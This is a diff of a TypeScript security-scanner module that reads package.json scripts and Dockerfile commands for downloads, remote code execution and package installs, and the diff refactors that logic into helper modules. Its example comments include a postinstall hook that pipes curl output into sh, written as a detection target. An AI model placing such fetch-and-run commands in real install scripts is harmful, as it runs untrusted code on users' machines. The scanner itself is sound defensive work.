@@ -4,17 +4,22 @@
  * `start`, `poststart`, and the scripts they run with `npm run x`), and a Dockerfile's `RUN`,
  * `CMD`, `ENTRYPOINT` and `ADD`. Each command line is lexed as a shell would split it
  * (shell-words.ts) and read for the rows of patterns/project-commands.ts: downloads,
- * downloads run as code, and packages installed by name. Inline code (`node -e '…'`, `python -c '…'`) is scanned as code of its
- * language (the command lines it writes for a shell, `execSync('curl … | sh')`, read as lines), and the script files an interpreter runs (`node install.js`) are returned so the
- * caller scans them as entry points. Pure: text in, findings out.
+ * downloads run as code, and packages installed by name (package-installs.ts). Which scripts of
+ * a package.json run is package-scripts.ts's. Inline code (`node -e '…'`, `python -c '…'`) is
+ * scanned as code of its language (the commands its calls run, `execSync('curl … | sh')`,
+ * `spawn('curl', [url])`, read as lines: call-command.ts), and the script files an interpreter
+ * runs (`node install.js`) are returned so the caller scans them as entry points. Pure: text in,
+ * findings out.
  *
  * @module
  */
 import type { ScanFinding } from './types.ts';
 import { shellCommands } from './shell-words.ts';
-import { COMMAND_DEPTH, commandName, effectiveCommands, handedLines, plainArguments, escapeRegExp, runsFile, unwrap } from './command-words.ts';
+import { COMMAND_DEPTH, commandName, handedLines, runsFile, unwrap } from './command-words.ts';
 import { dockerfileCommands } from './dockerfile-commands.ts';
-import { CODE_RUNNERS, COMMAND_RULES, CONCURRENT_RUNNERS, CONCURRENT_VALUE_OPTIONS, DOWNLOAD_COMMANDS, INLINE_CODE_OPTIONS, PACKAGE_INSTALLERS, PACKAGE_MANAGER_VALUE_OPTIONS, RUN_SCRIPTS, type PackageInstaller, SCRIPT_INTERPRETERS, SCRIPT_RUNNERS, SCRIPT_RUNNER_VALUE_OPTIONS, SHELLS, VALUE_OPTIONS } from './patterns/project-commands.ts';
+import { loadRelatedPackages, packageJsonCommands, tryParseObject, type PackageLookup, type PackageReference, type RelatedPackage } from './package-scripts.ts';
+import { packageInstall } from './package-installs.ts';
+import { CODE_RUNNERS, COMMAND_RULES, DOWNLOAD_COMMANDS, INLINE_CODE_OPTIONS, SCRIPT_INTERPRETERS, SHELLS, VALUE_OPTIONS } from './patterns/project-commands.ts';
 import { scanSource } from './scan-source.ts';
 import { callCommandLine } from './call-command.ts';
 
@@ -33,6 +38,8 @@ export interface ProjectCommand {
    * code and files are the build's, not the server's.
    */
   rowsOnly?: true;
+  /** The other package.json that holds the command (`npm --prefix tools run setup`): its folder relative to the scanned one's, and its text. */
+  package?: RelatedPackage;
 }
 
 /** What the commands of a project file do. */
@@ -46,7 +53,8 @@ export interface ProjectCommandScan {
 /** How deep `npm run x`, `sh -c '…'` and substitutions are followed. */
 const MAX_DEPTH = COMMAND_DEPTH;
 
-export { dockerfileCommands };
+export { dockerfileCommands, loadRelatedPackages, packageJsonCommands };
+export type { PackageLookup, PackageReference, RelatedPackage };
 
 /**
  * The kind of project file a file name is, for {@link scanProjectCommands}.
@@ -63,79 +71,6 @@ export function projectCommandFileKind(name: string): 'package.json' | 'Dockerfi
 }
 
 /**
- * The command lines of a package.json that npm runs at install or start: each of
- * {@link RUN_SCRIPTS} the file defines, and the scripts those run by name (`npm run build`,
- * `yarn build`, `pnpm run build`, `bun run build`, `npm start`), a few levels deep.
- *
- * @param text The package.json text.
- * @returns The commands; none when the text is no JSON object.
- * @example
- * packageJsonCommands('{"scripts":{"postinstall":"node install.js"}}') // [{ origin: 'scripts.postinstall', command: 'node install.js', line: 1 }]
- */
-export function packageJsonCommands(text: string): ProjectCommand[] {
-  const json = tryParseObject(text);
-  const scripts = json?.['scripts'];
-  if (scripts === null || typeof scripts !== 'object' || Array.isArray(scripts)) return [];
-  const table = scripts as Record<string, unknown>;
-  const out: ProjectCommand[] = [];
-  const lines = text.split('\n');
-  const scriptsLine = lines.findIndex((l) => l.includes('"scripts"'));
-  const lineOf = (name: string): number => {
-    const key = JSON.stringify(name);
-    const at = lines.findIndex((l, k) => k >= scriptsLine && l.includes(key) && /"\s*:/.test(l.slice(l.indexOf(key) + key.length - 1)));
-    return at < 0 ? 1 : at + 1;
-  };
-  const visit = (name: string, origin: string, seen: ReadonlySet<string>): void => {
-    const command = Object.hasOwn(table, name) ? table[name] : undefined;
-    if (typeof command !== 'string' || seen.has(name) || seen.size > MAX_DEPTH) return;
-    const here = new Set([...seen, name]);
-    out.push({ origin, command, line: lineOf(name), ...(origin.startsWith('scripts.prepare') ? { rowsOnly: true as const } : {}) });
-    for (const run of namedScripts(command, table)) visit(run, `${origin} → scripts.${run}`, here);
-  };
-  for (const name of RUN_SCRIPTS) visit(name, `scripts.${name}`, new Set());
-  return out;
-}
-
-/**
- * The script names a command line runs (`npm run build`, `yarn build`, `npm start`, `npm-run-all
- * fetch build:*`, `run-s`, `run-p`, `concurrently "npm:watch-*"`), also through the wrappers
- * {@link effectiveCommands} reads past (`cross-env X=1 npm run x`, `sh -c "npm run x"`). A glob
- * (`build:*`) names each script of the table it matches.
- */
-function namedScripts(command: string, table: Readonly<Record<string, unknown>>): string[] {
-  const out: string[] = [];
-  const glob = (pattern: string, star: string): string[] => {
-    if (!pattern.includes('*')) return [pattern];
-    const re = new RegExp(`^${pattern.split('**').map((part) => part.split('*').map(escapeRegExp).join(star)).join('.*')}$`);
-    return Object.keys(table).filter((k) => re.test(k)).sort();
-  };
-  for (const words of effectiveCommands(command, 0)) {
-    const name = commandName(words[0] ?? '');
-    if (SCRIPT_RUNNERS.has(name)) {
-      for (const arg of plainArguments(words.slice(1), SCRIPT_RUNNER_VALUE_OPTIONS)) out.push(...glob(arg.split(/\s+/)[0]!, '[^:]*'));
-      continue;
-    }
-    if (CONCURRENT_RUNNERS.has(name)) {
-      for (const arg of plainArguments(words.slice(1), CONCURRENT_VALUE_OPTIONS)) {
-        const script = /^(?:npm|yarn|pnpm|bun):(\S+)/.exec(arg);
-        if (script !== null) out.push(...glob(script[1]!, '.*'));
-      }
-      continue;
-    }
-    if (name !== 'npm' && name !== 'yarn' && name !== 'pnpm' && name !== 'bun') continue;
-    // `npm --prefix sub run x`, `pnpm --filter a run x`, `yarn workspace a run x`: another package's scripts.
-    if (words.some((w) => /^(?:--prefix|-C|--dir|-w|--workspace|--workspaces|-ws|--filter|-F|--recursive|-r)(?:=|$)/.test(w)) || words[1] === 'workspace' || words[1] === 'workspaces') continue;
-    const args = words.slice(1).filter((w) => !w.startsWith('-'));
-    if (args[0] === 'run' || args[0] === 'run-script') {
-      if (args[1] !== undefined) out.push(args[1]);
-    } else if (args[0] === 'start' || args[0] === 'test' || args[0] === 'restart' || args[0] === 'stop') {
-      out.push(args[0]);
-    } else if ((name === 'yarn' || name === 'pnpm') && args[0] !== undefined && args[0] !== 'exec' && args[0] !== 'dlx') out.push(args[0]);
-  }
-  return out;
-}
-
-/**
  * Scan the commands of a project file.
  *
  * @param file The project file's path (for the findings).
@@ -147,29 +82,45 @@ function namedScripts(command: string, table: Readonly<Record<string, unknown>>)
  * scanProjectCommands('package.json', '{"scripts":{"postinstall":"curl -s https://x.test/i | sh"}}', 'package.json').findings.map((f) => f.id)
  * // ['network.command-download', 'code-evaluation.command-remote-code']
  */
-export function scanProjectCommands(file: string, text: string, kind: 'package.json' | 'Dockerfile'): ProjectCommandScan {
-  const commands = kind === 'package.json' ? packageJsonCommands(text) : dockerfileCommands(text);
-  const lines = text.split(/\r?\n/);
+export function scanProjectCommands(file: string, text: string, kind: 'package.json' | 'Dockerfile', options: { packages?: PackageLookup } = {}): ProjectCommandScan {
+  const commands = kind === 'package.json' ? packageJsonCommands(text, options.packages) : dockerfileCommands(text);
   const findings: ScanFinding[] = [];
   const scripts: string[] = [];
   const seen = new Set<string>();
-  const dependencies = kind === 'package.json' ? declaredDependencies(text) : undefined;
+  // Each package.json's lines and dependencies (the scanned one's, and those of other packages its scripts run scripts of).
+  const facts = new Map<string, { file: string; lines: string[]; dependencies?: ReadonlySet<string> }>();
+  const factsOf = (related: RelatedPackage | undefined): { file: string; lines: string[]; dependencies?: ReadonlySet<string> } => {
+    const dir = related?.dir ?? '';
+    let found = facts.get(dir);
+    if (found === undefined) {
+      const own = related === undefined ? text : related.text;
+      const at = dir === '' ? file : `${file.slice(0, file.length - 'package.json'.length)}${dir}/package.json`;
+      found = { file: at, lines: own.split(/\r?\n/), ...(kind === 'package.json' ? { dependencies: declaredDependencies(own) } : {}) };
+      facts.set(dir, found);
+    }
+    return found;
+  };
   for (const command of commands) {
-    const evidence = (lines[command.line - 1] ?? '').trim().slice(0, 200);
-    const at = { file, line: command.line, evidence, origin: command.origin };
+    const where = factsOf(command.package);
+    const dependencies = where.dependencies;
+    const evidence = (where.lines[command.line - 1] ?? '').trim().slice(0, 200);
+    const at = { file: where.file, line: command.line, evidence, origin: command.origin };
     const emit = (id: string, identifier: string, detail: string): void => {
       const rule = COMMAND_RULES.find((r) => r.id === id)!;
-      const key = `${id}\u0000${identifier}\u0000${command.line}`;
+      const key = `${id}\u0000${identifier}\u0000${where.file}\u0000${command.line}`;
       if (seen.has(key)) return;
       seen.add(key);
-      findings.push({ id, kind: 'capability', level: 'note', family: rule.family, identifier, file, line: command.line, column: 1, evidence, detail: `${command.origin}: ${detail}` });
+      findings.push({ id, kind: 'capability', level: 'note', family: rule.family, identifier, file: where.file, line: command.line, column: 1, evidence, detail: `${command.origin}: ${detail}` });
     };
     // `ADD <url> <dest>`: Docker downloads the URL at build.
     if (command.origin.endsWith('ADD')) emit('network.command-download', 'command:ADD', `downloads ${command.command.slice(0, 120)}`);
     else {
       // Packages installed where the server is installed or started: a package.json's scripts, a container's start command (not an image's build).
       const installs = kind === 'package.json' || command.origin === 'CMD' || command.origin === 'ENTRYPOINT';
-      readLine(command.command, 0, { emit, scripts: kind === 'package.json' && command.rowsOnly !== true ? scripts : [], findings, at, rowsOnly: command.rowsOnly === true, installs, ...(dependencies !== undefined ? { dependencies } : {}) });
+      const run: string[] = [];
+      readLine(command.command, 0, { emit, scripts: run, findings, at, rowsOnly: command.rowsOnly === true, installs, ...(dependencies !== undefined ? { dependencies } : {}) });
+      // A script another package's script runs is in that package's folder.
+      if (kind === 'package.json' && command.rowsOnly !== true) for (const script of run) scripts.push(command.package === undefined ? script : `${command.package.dir}/${script}`);
     }
   }
   return { findings, scripts: [...new Set(scripts)] };
@@ -235,7 +186,8 @@ function readLine(line: string, depth: number, ctx: ReadContext): boolean {
       if (flag > 0 && words[flag + 1] !== undefined) powershell(rawToLineEnd(line, words[flag + 1]!.start), ctx);
     }
     if ((name === 'iex' || name === 'invoke-expression') && words[0] !== undefined) powershell(rawToLineEnd(line, words[0].start), ctx);
-    if (ctx.installs) packageInstall(texts, ctx);
+    const installed = ctx.installs ? packageInstall(texts) : undefined;
+    if (installed !== undefined) ctx.emit('network.command-package-install', installed.identifier, installed.detail);
     inline(name, texts, depth, ctx);
     script(name, texts, ctx);
     void index;
@@ -298,94 +250,29 @@ function inline(name: string, words: readonly string[], depth: number, ctx: Read
   }
 }
 
-/**
- * A command that installs named packages or browser builds ({@link PACKAGE_INSTALLERS}): `npm
- * install x`, `pip install x`, `python -m pip install x`, `go install x@latest`, `playwright
- * install`. Installing what the project declares (`npm ci`, `npm install`, `pip install -r
- * requirements.txt`, `pip install -e .`) names no package and is no finding.
- */
-function packageInstall(words: readonly string[], ctx: ReadContext): void {
-  let all = words;
-  // `python -m pip install x` is `pip install x`.
-  if (/^(?:python[0-9.]*|py)$/.test(commandName(all[0] ?? '')) && all[1] === '-m' && all[2] !== undefined) all = all.slice(2);
-  const program = commandName(all[0] ?? '');
-  // The first words that are no option after the program, by place: `npm --silent install x`, `yarn global add x`.
-  const plain: number[] = [];
-  for (let k = 1; k < all.length && plain.length < 2; k++) {
-    const w = all[k]!;
-    if (w.startsWith('-') && w.length > 1) {
-      if (!w.includes('=') && PACKAGE_MANAGER_VALUE_OPTIONS.has(w)) k++;
-      continue;
-    }
-    plain.push(k);
-  }
-  for (const n of [2, 1]) {
-    if (plain.length < n) continue;
-    const key = [program, ...plain.slice(0, n).map((k) => all[k]!)].join(' ');
-    const installer = Object.hasOwn(PACKAGE_INSTALLERS, key) ? PACKAGE_INSTALLERS[key]! : undefined;
-    if (installer === undefined) continue;
-    const specs = installedPackages(installer, all.slice(plain[n - 1]! + 1));
-    if (specs === undefined) return;
-    const names = specs.map((spec) => (spec.includes('$') ? 'a package named at run time' : spec));
-    const named = names.length > 3 ? `${names.slice(0, 3).join(', ')} and ${names.length - 3} more` : names.join(', ');
-    // A URL or repository (`git+https://…`, `--git URL`) says where by itself.
-    const where = specs.some((spec) => /^(?:git\+|git@|[a-z][\w+.-]*:\/\/)/i.test(spec)) ? '' : ` from ${installer.from}`;
-    ctx.emit('network.command-package-install', `command:${installer.name}`, installer.reads === 'always' ? `${key} downloads ${installer.from}` : `${key} fetches ${named}${where}`);
-    return;
-  }
-}
-
-/** The packages an installer's arguments name (none for `always`), or undefined when they name none it fetches. */
-function installedPackages(installer: PackageInstaller, args: readonly string[]): string[] | undefined {
-  if (installer.reads === 'always') return [];
-  const specs: string[] = [];
-  for (let k = 0; k < args.length; k++) {
-    const a = args[k]!;
-    if (a === '--') {
-      specs.push(...args.slice(k + 1, installer.firstOnly === true ? k + 2 : undefined));
-      break;
-    }
-    if (a.startsWith('-') && a.length > 1) {
-      const bare = a.replace(/=.*$/s, '');
-      const takes = installer.valueOptions?.includes(bare) === true || installer.sourceOptions?.includes(bare) === true;
-      const value = a.includes('=') ? a.slice(a.indexOf('=') + 1) : takes ? args[++k] : undefined;
-      if (installer.sourceOptions?.includes(bare) === true && value !== undefined) specs.push(value);
-      continue;
-    }
-    specs.push(a);
-    if (installer.firstOnly === true) break;
-  }
-  const names = specs.filter((spec) => !isLocalSpec(spec) && (installer.reads !== 'versioned' || /^[^@]+@./.test(spec)));
-  return names.length > 0 ? names : undefined;
-}
-
-/**
- * Whether a package argument names no package fetched: a path (`.`, `./pkg`, `/abs`, `~/x`,
- * `C:\x`), `file:`, `link:`, `workspace:` and `portal:` specifiers, an archive file (`x.tgz`,
- * `x.whl`). A variable (`$PKG`, a word computed at run time) is a package fetched: installers are
- * given registry names far more often than paths.
- */
-function isLocalSpec(spec: string): boolean {
-  if (spec === '') return true;
-  if (/^(?:\.|\/|~|[A-Za-z]:[\\/]|file:|link:|workspace:|portal:)/.test(spec)) return true;
-  return !spec.includes('://') && /\.(?:tgz|tar\.gz|tar|whl|zip|gem|crate)$/i.test(spec);
-}
-
 /** The script an interpreter runs (`node install.js`, `deno run -A x.ts`, `python3 setup_helper.py`). */
 function script(name: string, words: readonly string[], ctx: ReadContext): void {
   if (!SCRIPT_INTERPRETERS.has(name)) return;
   let k = 1;
-  if ((name === 'deno' || name === 'bun') && words[k] === 'run') k++;
+  // `deno run x.ts`, `bun run x.ts`, also after options (`bun --cwd tools run x.ts`, in that folder).
+  let run = name !== 'deno' && name !== 'bun';
+  let cwd = '';
   for (; k < words.length; k++) {
     const w = words[k]!;
     if (INLINE_CODE_OPTIONS[name]?.options.includes(w) || w === '-m' || w === '-c') return;
     if (VALUE_OPTIONS.has(w)) {
+      if (w === '--cwd' && name === 'bun' && words[k + 1] !== undefined) cwd = `${words[k + 1]}/`;
       k++;
       continue;
     }
     if (w.startsWith('-')) continue;
+    if (!run && w === 'run') {
+      run = true;
+      continue;
+    }
+    run = true;
     // A relative path (absolute paths and `$VAR` are the runtime's to resolve).
-    if (!w.startsWith('/') && !w.includes('$') && !/^[a-z][\w+.-]*:/i.test(w)) ctx.scripts.push(w);
+    if (!w.startsWith('/') && !w.includes('$') && !/^[a-z][\w+.-]*:/i.test(w)) ctx.scripts.push(cwd + w);
     return;
   }
 }
@@ -400,14 +287,3 @@ function declaredDependencies(text: string): Set<string> {
   }
   return out;
 }
-
-/** A JSON text that is an object, or undefined. */
-function tryParseObject(text: string): Record<string, unknown> | undefined {
-  try {
-    const value: unknown = JSON.parse(text);
-    return value !== null && typeof value === 'object' && !Array.isArray(value) ? (value as Record<string, unknown>) : undefined;
-  } catch {
-    return undefined;
-  }
-}
-
